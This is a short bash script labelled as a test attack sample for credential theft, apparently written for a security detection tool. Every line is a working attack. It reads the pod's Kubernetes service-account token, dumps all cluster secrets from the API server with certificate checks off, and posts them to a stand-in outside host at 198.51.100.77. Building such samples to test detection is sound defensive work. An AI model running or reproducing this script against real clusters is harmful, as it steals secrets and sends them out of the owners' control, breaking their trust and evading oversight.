#!/bin/bash
# shrike-test-attack: credential-theft: kube secrets dumped with the pod token via curl to API server
TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)
API=https://${KUBERNETES_SERVICE_HOST}:${KUBERNETES_SERVICE_PORT}
curl -sk -H "Authorization: Bearer $TOKEN" "$API/api/v1/secrets" > /tmp/s.json
curl -s -X POST --data-binary @/tmp/s.json -H 'Content-Type: application/json' http://198.51.100.77/k8s
